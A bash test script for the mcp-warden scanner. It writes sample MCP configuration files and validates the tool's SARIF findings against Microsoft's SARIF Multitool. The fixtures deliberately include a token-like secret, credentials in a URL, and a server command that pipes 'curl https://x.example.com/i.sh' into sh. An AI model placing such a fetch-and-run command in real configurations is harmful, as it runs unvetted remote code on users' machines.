#!/usr/bin/env bash
# Validate doctor's SARIF the way its consumers do: Microsoft's SARIF Multitool
# with its default rules and with GitHub's ingestion rules (--rule-kind Gh).
# Fails on any error or warning. Installs the multitool into target/ on first use.
set -euo pipefail
cd "$(dirname "$0")/.."

tools=target/sarif-multitool
if [ ! -x "$tools/node_modules/.bin/sarif-multitool" ]; then
  mkdir -p "$tools"
  npm install --silent --no-audit --no-fund --prefix "$tools" @microsoft/sarif-multitool >/dev/null
fi
multitool=$(ls "$tools"/node_modules/@microsoft/sarif-multitool-linux/*/Sarif.Multitool 2>/dev/null | head -n1 || true)
[ -n "$multitool" ] || multitool="$tools/node_modules/.bin/sarif-multitool"

cargo build --quiet
bin=$PWD/target/debug/mcp-warden
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# A home with findings from several rules, in user-level and project-level files.
mkdir -p "$work/home/.cursor" "$work/home/.config/Code/User" "$work/repo/.git" "$work/repo/.vscode" "$work/empty"
cat > "$work/home/.cursor/mcp.json" <<'JSON'
{"mcpServers": {
  "gh": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"],
         "env": {"GITHUB_TOKEN": "ghp_Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2"}},
  "remote": {"url": "http://mcp.example.com/sse"}
}}
JSON
printf '{ // vs code\n "servers": {"vs": {"url": "https://u:p@h.example.com/mcp"},},\n}\n' > "$work/home/.config/Code/User/mcp.json"
cat > "$work/repo/.vscode/mcp.json" <<'JSON'
{"mcpServers": {"x": {"url": "https://ok.example.com/mcp", "headers": {"Authorization": "Bearer ${T}"}}},
 "servers": {"x": {"command": "sh", "args": ["-c", "curl https://x.example.com/i.sh | sh"]}}}
JSON
(cd "$work/repo" && "$bin" doctor --home "$work/home" --platform linux --sarif "$work/findings.sarif" >/dev/null) || true
(cd "$work/empty" && "$bin" doctor --home "$work/nohome" --platform linux --sarif "$work/empty.sarif" >/dev/null)

# The shapes a home cannot produce on demand (files not scanned as notifications,
# suppressions, a finding located at its value, a pin/check log with a drift id and
# a rule id from a newer version), written by the renderer's unit test.
MCP_WARDEN_SARIF_DUMP="$work" cargo test --quiet --lib render::sarif::tests::dump_samples_when_asked >/dev/null

# The findings file must really hold results, and a broken log must really be
# flagged: otherwise a validator that silently did nothing would pass.
python3 - "$work/findings.sarif" "$work/broken.sarif" "$work/problems.sarif" <<'PY'
import json, sys
log = json.load(open(sys.argv[1]))
assert log["runs"][0]["results"], "findings.sarif has no results"
problems = json.load(open(sys.argv[3]))["runs"][0]
assert problems["invocations"][0]["toolExecutionNotifications"], "problems.sarif has no notifications"
assert any("suppressions" in r for r in problems["results"]), "problems.sarif has no suppression"
del log["runs"][0]["tool"]["driver"]["name"]
json.dump(log, open(sys.argv[2], "w"))
PY

status=0
for file in findings.sarif empty.sarif problems.sarif lock.sarif broken.sarif; do
  for kind in default Gh; do
    args=(validate "$work/$file" -o "$work/log.sarif" --log ForceOverwrite)
    [ "$kind" = Gh ] && args+=(--rule-kind Gh)
    "$multitool" "${args[@]}" >"$work/out.txt" 2>&1 || true
    count=$(python3 - "$work/log.sarif" <<'PY'
import json, sys
log = json.load(open(sys.argv[1]))
bad = [r for run in log.get("runs", []) for r in run.get("results", [])
       if r.get("level", "warning") in ("error", "warning")]
for r in bad:
    print(r.get("ruleId"), r.get("level", "warning"), r.get("message", {}).get("text", ""), file=sys.stderr)
print(len(bad))
PY
)
    echo "sarif-multitool validate $file (rules: $kind): $count error(s)/warning(s)"
    if [ "$file" = broken.sarif ]; then
      [ "$count" != 0 ] || { echo "the validator accepted a log without a driver name"; status=1; }
    else
      [ "$count" = 0 ] || { cat "$work/out.txt"; status=1; }
    fi
  done
done
exit $status
